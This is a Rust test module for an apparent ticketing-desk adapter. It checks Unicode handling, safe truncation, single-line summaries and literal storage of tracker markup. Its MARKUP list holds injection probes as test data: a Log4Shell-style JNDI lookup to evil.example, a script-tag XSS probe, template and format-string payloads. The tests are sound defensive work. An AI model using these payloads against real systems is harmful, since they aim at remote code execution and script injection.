//! Text of every script and length.

use bytes::Bytes;
use watchfloor_core::{Comment, Marker, RichText};

use super::{DeskWorlds, HeldTicket, Verdict, draft, failed, held, open, well};

/// Japanese, emoji of several code points, right to left with its marks, combining characters,
/// widths of zero, a character outside of the first plane.
pub(crate) const CORPUS: [&str; 7] = [
    "不正アクセスの検知：注文API",
    "👩‍👩‍👧‍👦 🇯🇵 🚨",
    "هجوم على واجهة \u{200f}API\u{200e} اليوم",
    "e\u{301}\u{323} Z\u{351}\u{36b}\u{343} o\u{308}",
    "a\u{200b}b\u{200d}c\u{2060}d",
    "𠮷野家 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "Größe, naïve, Ωmega, Привет, ไทย, हिन्दी",
];

/// A text without the space around and between its words.
fn squeezed(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

pub(super) async fn multi_byte(worlds: DeskWorlds) -> Verdict {
    for text in CORPUS {
        let world = worlds.fresh().await;
        let mut draft = draft(&*world, text);
        draft.summary = text.to_owned();
        draft.body = RichText::new().text(text).code(text);
        draft.labels.push(text.to_owned());
        let (id, desk) = (open(&*world, &draft).await?, world.port());
        let said = Comment::new(Marker::derive(text, text), RichText::new().text(text));
        well("a comment", desk.comment(&world.call(), &id, &said).await)?;
        let there = held(&*world, &id)?;
        let comment = there.comments.first().cloned().unwrap_or_default();
        let body = there.body.clone().unwrap_or_else(|| text.to_owned());
        for (what, held) in [("summary", &there.summary), ("body", &body), ("comment", &comment)] {
            if !squeezed(held).contains(&squeezed(text)) {
                return Err(failed(format!("{text:?} as a {what} is held as {held:?}")));
            }
        }
        let got = well("getting", desk.get(&world.call(), &id).await)?;
        if got.summary != there.summary || got.key.as_ref() != Some(draft.key()) {
            return Err(failed(format!("{text:?} is got as {:?}, {:?}", got.summary, got.key)));
        }
        if !well("looking for it", desk.has_comment(&world.call(), &id, &said.marker).await)? {
            return Err(failed(format!("a comment of {text:?} is not found by its marker")));
        }
    }
    Ok(())
}

/// Whether a file of the ticket holds all of this text.
fn is_attached(ticket: &HeldTicket, text: &str) -> bool {
    let whole = |file: &Bytes| {
        std::str::from_utf8(file).is_ok_and(|f| squeezed(f).contains(&squeezed(text)))
    };
    ticket.files.iter().any(|(_, bytes)| whole(bytes))
}

/// Whether what is held is the beginning of what was sent, cut between characters.
fn is_cut_well(sent: &str, held: &str) -> bool {
    let shown = held.trim_end_matches(['…', '.', ' ']);
    !held.contains('\u{fffd}') && !shown.is_empty() && sent.starts_with(shown)
}

pub(super) async fn long_text(worlds: DeskWorlds) -> Verdict {
    // Every offset of a limit falls within some character of these.
    for unit in ["日", "é", "😀", "a😀", "e\u{301}", "ab日"] {
        let world = worlds.fresh().await;
        let mut draft = draft(&*world, "long");
        draft.summary = format!("begin-{}-end-of-the-summary", unit.repeat(3000));
        let body = format!("begin-{}-end-of-the-body", unit.repeat(60_000));
        draft.body = RichText::new().text(body.as_str());
        let id = open(&*world, &draft).await?;
        let there = held(&*world, &id)?;
        let attach = world.port().capabilities().attach;
        let whole = there.summary == draft.summary;
        if !whole && !is_cut_well(&draft.summary, &there.summary) {
            let end: String = there.summary.chars().rev().take(12).collect();
            let end: String = end.chars().rev().collect();
            return Err(failed(format!("a summary of {unit:?} is held with the end {end:?}")));
        }
        if !whole && attach && !is_attached(&there, &draft.summary) {
            return Err(failed("a summary is cut, and its whole is not attached"));
        }
        let Some(held) = there.body.as_ref() else { continue };
        if held.contains('\u{fffd}') || !held.contains("begin-") {
            return Err(failed(format!("a body of {unit:?} is cut within a character")));
        }
        if !held.contains("-end-of-the-body") && attach && !is_attached(&there, &body) {
            return Err(failed("a body is cut, and its whole is not attached"));
        }
    }
    Ok(())
}

pub(super) async fn one_line(worlds: DeskWorlds) -> Verdict {
    let world = worlds.fresh().await;
    let mut draft = draft(&*world, "lines");
    draft.summary = "first\r\nsecond\nthird".to_owned();
    let id = open(&*world, &draft).await?;
    let held = held(&*world, &id)?.summary;
    if held.contains(['\n', '\r']) || squeezed(&held) != "first second third" {
        return Err(failed(format!("three lines are held as {held:?}")));
    }
    Ok(())
}

/// Text that means something to one product or another.
const MARKUP: [&str; 12] = [
    "h1. *bold* _it_ {color:red}x{color}",
    "[~admin] [~accountid:5b10] @admin",
    "!https://evil.example/x.png!",
    "{code}not code{code} {noformat}",
    "[click|https://evil.example]",
    "<script>alert(1)</script> <b>x</b> &amp; &lt;",
    "[code]<a href='https://evil.example'>x</a>[/code]",
    "| a | b | || c ||",
    "----",
    "${jndi:ldap://evil.example/a} %s %n {{7*7}}",
    "\\\\ \\[ \\{ C:\\temp\\new",
    "* item # item - item",
];

pub(super) async fn markup(worlds: DeskWorlds) -> Verdict {
    for text in MARKUP {
        let world = worlds.fresh().await;
        let mut draft = draft(&*world, "markup");
        draft.summary = text.to_owned();
        draft.body = RichText::new().text(format!("before {text} after")).text("a line after it");
        let id = open(&*world, &draft).await?;
        let said = Comment::new(Marker::derive("suite", text), RichText::new().text(text));
        well("a comment", world.port().comment(&world.call(), &id, &said).await)?;
        let there = held(&*world, &id)?;
        if squeezed(&there.summary) != squeezed(text) {
            let held = there.summary;
            return Err(failed(format!("the summary {text:?} is read as {held:?}")));
        }
        let body = there.body.unwrap_or_else(|| format!("before {text} after"));
        if !squeezed(&body).contains(&squeezed(&format!("before {text} after"))) {
            return Err(failed(format!("{text:?} in a body is read as {body:?}")));
        }
        let comment = there.comments.first().cloned().unwrap_or_default();
        if !squeezed(&comment).contains(&squeezed(text)) {
            return Err(failed(format!("{text:?} in a comment is read as {comment:?}")));
        }
    }
    Ok(())
}
